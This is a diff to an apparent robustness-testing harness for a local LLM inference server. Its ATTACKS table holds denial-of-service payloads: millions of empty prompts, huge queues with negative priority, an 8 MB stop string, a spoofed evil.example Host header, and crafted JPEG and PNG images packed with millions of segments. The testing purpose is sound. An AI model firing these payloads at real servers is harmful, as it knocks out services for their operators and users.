@@ -42,8 +42,7 @@ class Target:
                     answer += part
         return answer[9:12].decode() if answer.startswith(b"HTTP/1.1 ") else "closed"
 
-    def post(self, path: str, body: bytes | Mapping[str, Any], kind: str = "application/json") -> str:
-        content = body if isinstance(body, bytes) else json.dumps({"model": self.model, **body}).encode()
+    def post(self, path: str, content: bytes, kind: str = "application/json") -> str:
         fields = (
             f"Host: localhost\r\nContent-Type: {kind}\r\nContent-Length: {len(content)}\r\nConnection: close\r\n\r\n"
         )
@@ -65,6 +64,12 @@ def body(content: bytes, path: str = COMPLETIONS) -> Attack:
     return lambda target: target.post(path, b'{"model": "%b", "prompt": %b}' % (target.model.encode(), content))
 
 
+def request(path: str, **fields: Any) -> Attack:
+    """An attack by the fields of a request, which are encoded once: that would hold up the client that measures."""
+    content = json.dumps(fields).encode()[1:]
+    return lambda target: target.post(path, b'{"model": "%b", %b' % (target.model.encode(), content))
+
+
 def unknown_keys(count: int) -> Attack:
     content = b"{" + b", ".join(b'"k%d": 1' % i for i in range(count)) + b"}"
     return lambda target: target.post(CHAT, content)
@@ -75,14 +80,12 @@ def head(sent: bytes) -> Attack:
 
 
 def chat(text: str, **fields: Any) -> Attack:
-    messages = [{"role": "user", "content": text}]
-    return lambda target: target.post(CHAT, {"messages": messages, "max_tokens": 2, **fields})
+    return request(CHAT, messages=[{"role": "user", "content": text}], max_tokens=2, **fields)
 
 
 def image(content: bytes) -> Attack:
     part = {"type": "image_url", "image_url": {"url": data_url(content)}}
-    messages = [{"role": "user", "content": [part, {"type": "text", "text": "?"}]}]
-    return lambda target: target.post(CHAT, {"messages": messages, "max_tokens": 2})
+    return request(CHAT, messages=[{"role": "user", "content": [part, {"type": "text", "text": "?"}]}], max_tokens=2)
 
 
 def picture(size: tuple[int, int], form: str, frames: int = 1) -> bytes:
@@ -142,11 +145,6 @@ def among(content: bytes, inserted: bytes, place: int) -> bytes:
     return content[:place] + inserted + content[place:]
 
 
-def many_ids(target: Target) -> str:
-    """As many ids as a body may have, to be made text."""
-    return target.post("/detokenize", b'{"tokens": %b}' % listed(b"9", 2**20))
-
-
 ATTACKS: Mapping[str, Attack] = {
     "1 million empty prompts": body(listed(b'""', 10**6)),
     "10 million empty prompts": body(listed(b'""', 10**7)),
@@ -169,9 +167,7 @@ ATTACKS: Mapping[str, Attack] = {
     "another host": head(b"GET /v1/models HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
     "HTTP/0.9": head(b"GET /v1/models\r\n\r\n"),
     "text from a web page": lambda target: target.post(CHAT, b"{}", "text/plain"),
-    "4,096 prompts, 64 answers each": lambda target: target.post(
-        COMPLETIONS, {"prompt": ["a"] * 4096, "n": 64, "max_tokens": 1000, "priority": -1000}
-    ),
+    "4,096 prompts, 64 answers each": request(COMPLETIONS, prompt=["a"] * 4096, n=64, max_tokens=1000, priority=-1000),
     "a full queue that is left": leave_many_prompts,
     "priority": chat("?", priority=-1000),
     "a stop string of 8 MB": chat("?", stop="a" * (8 << 20)),
@@ -191,7 +187,7 @@ ATTACKS: Mapping[str, Attack] = {
     "JPEG of 4 million comments": image(among(picture((8, 8), "JPEG"), b"\xff\xfe\0\2" * (4 << 20), 2)),
     "JPEG of 200,000 tables": image(among(picture((8, 8), "JPEG"), (b"\xff\xdb\0\x43\0" + b"\1" * 64) * 200_000, 2)),
     "PNG of a million chunks": image(among(picture((8, 8), "PNG"), b"\0\0\0\0IDAT\x35\xaf\x06\x1e" * (1 << 20), 33)),
-    "a million ids to text": many_ids,
+    "a million ids to text": request("/detokenize", tokens=[9] * 2**20),
     "JPEG 2000": image(b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0" * 100),
     "an icon": image(picture((32, 32), "ICO")),
     "PostScript": image(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"),
